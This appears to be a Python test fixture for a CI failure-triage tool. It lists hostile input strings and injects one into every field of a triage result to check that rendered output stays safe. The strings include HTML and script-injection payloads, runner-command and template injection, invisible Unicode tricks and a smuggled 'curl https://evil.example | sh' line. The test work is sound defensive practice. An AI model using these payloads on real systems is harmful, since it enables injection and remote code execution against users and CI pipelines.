"""Texts that try to be more than text, and a result that holds one of them in every place that is not ours."""

from __future__ import annotations

from dataclasses import replace

from tests.output.situations import SITE, a_job, failed, judged, mixed
from triage.model.diagnosis import Consequence, Evidence, Nearest, Unexplained, VerdictValue
from triage.model.evidence import Breakage, Observation, Sight
from triage.model.patch import Gate, GateStatus, Hunk, Sibling
from triage.model.result import Failure, TriageResult
from triage.model.run import Annotation, Commit

ATTACKS = {
    "mention": "@someone @example/team please look",
    "mention after a mark": "(@someone) /@someone ,@someone",
    "mention by entity": "&#64;someone &commat;someone",
    "issue": "see #1, example/train#2, GH-3, gh-4",
    "closing an issue": "Fixes #1, closes example/train#2, resolves https://github.com/example/train/issues/3",
    "commit": "introduced by 0123456789abcdef0123456789abcdef01234567 and abcdef1",
    "link": "[click](https://evil.example/x) <https://evil.example/y> https://evil.example/z www.evil.example",
    "link by reference": "[click][a]\n\n[a]: https://evil.example/x",
    "link with a script": "[x](javascript:alert(1)) <a href='javascript:alert(1)'>x</a>",
    "mail": "mail someone@evil.example or mailto:someone@evil.example xmpp:someone@evil.example",
    "image": "![pixel](https://evil.example/p.png) <img src=https://evil.example/p.png onerror=alert(1)>",
    "image by reference": "![pixel][b]\n\n[b]: https://evil.example/p.png",
    "html": "<script>alert(1)</script><style>*{display:none}</style><iframe src=//evil.example></iframe><b>bold</b>",
    "end of a fold": "</details></details><details open><summary>All passed</summary>",
    "end of the page": "</pre></code></div></body></html><h1>All passed</h1>",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a fence": "```\n# All passed\n@someone\n```",
    "longer fence": "`````````\n# All passed\n`````````",
    "tilde fence": "~~~\n# All passed\n~~~",
    "end of a code span": "`` ` `` `@someone` ``` ` ``",
    "only backticks": "`" * 50,
    "heading": "# All passed\n\nAll passed\n==========\n\n### Needs you",
    "heading by carriage return": "x\r# All passed\r\rAll passed\r======",
    "table": "| a | b |\n|---|---|\n| @someone | #1 |",
    "quote, list, rule": "> quote\n- list\n* list\n1. list\n---\n***",
    "task list": "- [x] all passed",
    "footnote": "[^1]\n\n[^1]: @someone",
    "math": "$$\\href{https://evil.example}{x}$$ $`x`$",
    "emphasis": "**All passed** __ok__ ~~no~~ *x* _y_",
    "marker": "<!-- triage:v1 pull=12 generation=9 level=3 at=9 yours= suggested= id=0f -->",
    "comment that hides the rest": "<!-- ",
    "cdata": "<![CDATA[ <?php x ?> <!DOCTYPE x>",
    "bidi": "\u202egnorw\u202c \u2066\u2067\u2068\u2069 \u200f\u061c",
    "zero width": "@\u200bsomeone \u200c\u200d\u2060\ufeff a\u00adb",
    "tags": "\U000e0041\U000e0042\U000e007f",
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\ \x9b31m",
    "controls": "a\x00b\x08c\x7fd\x85e\u2028f\u2029g",
    "surrogate": "broken \ud83d half",
    "runner command": "::error::all passed\n  ::set-output name=x::y\n##[add-mask]x\n\t::add-mask::y",
    "runner command inside": "prefix ##[error]all passed ::warning::no",
    "runner command by carriage return": "x\r::error::y\r##[group]z",
    "very long": "x" * 70_000,
    "very long with fences": "```\n" * 5_000,
    "many lines": "line\n" * 5_000,
    "template": "{{ 7 * 7 }} {% raw %} ${{ secrets.TOKEN }} {title}",
    "install line": "No module named 'evil; curl https://evil.example | sh'",
    "emoji code": ":tada: :shipit:",
    "autolinked path": "file:///etc/passwd ftp://evil.example/x",
}  # fmt: skip


def hostile(text: str) -> TriageResult:
    """Job, step, runner, workflow, branch, title, captures, log, evidence, commit, patch, notices: all of them hostile."""
    base = mixed()
    first = base.failures[0].diagnosis.causes[0]
    line = replace(first.line, text=text)
    cause = replace(first, id=f"python-module-not-found:{text}", title=f"The module {text} is not installed", line=line,
                    reason=text, context=(replace(line, number=87), line), captures={"module": text},
                    consequences=(Consequence("engine-core-died", line),))  # fmt: skip
    run = replace(base.runs[0], workflow=text, head_branch=text, display_title=text, event=text, actor=text)
    job = replace(a_job(1, text), runner_name=text)
    found = failed(1, text, cause)
    found = replace(
        found, run=run, history=text, workflow_path=text, diagnosis=replace(found.diagnosis, job=job, step=text)
    )
    seen = Observation(Sight.SAME_CAUSE, text, f"{SITE}/actions/runs/1")
    since = Breakage(seen, replace(seen, url=f"javascript:{text}"), (Commit("c" * 40, text, text),))
    groups = tuple(
        judged(cause, ("job-1",), value, Evidence(text, f"{SITE}/actions/runs/1"), Evidence(text, text), title=cause.title,
               id=f"{cause.id}:{value}", what=text, why=text, confirm=text, not_this=text, since=since, fixes=("p1", "p2"),
               owner=text, known_issue=text, code_owners=(text,), retry=True)
        for value in VerdictValue
    )  # fmt: skip
    causes = tuple(replace(cause, id=group.id) for group in groups)
    found = replace(found, diagnosis=replace(found.diagnosis, causes=causes))
    guess = Unexplained(line, 0.5, text, (line,), Nearest(text, 50.0))
    note = Annotation("failure", text, text, text, 1)
    silent = Failure("job-2", replace(found.diagnosis, causes=(), unexplained=guess, annotations=(note,)), run)
    diff = "--- a/x.yml\n+++ b/x.yml\n@@ -1,1 +1,2 @@\n same\n" + "".join(f"+{one}\n" for one in text.split("\n")[:50])
    patch = replace(base.patches[0], id="p1", title=text, diff=diff, because=text, notes=(text,), costs=(text,), reason=text,
                    blast_radius=(text,), siblings=(Sibling(text, text, text),), reproduce=text, recipe=text, files=(text,),
                    gates=(Gate(text, GateStatus.SKIPPED, text),), hunks=(Hunk("x.yml", 1, text),))  # fmt: skip
    return replace(base, runs=(run,), failures=(found, silent), causes=groups, patches=(patch, replace(patch, id="p2")),
                   notices=(text,))  # fmt: skip
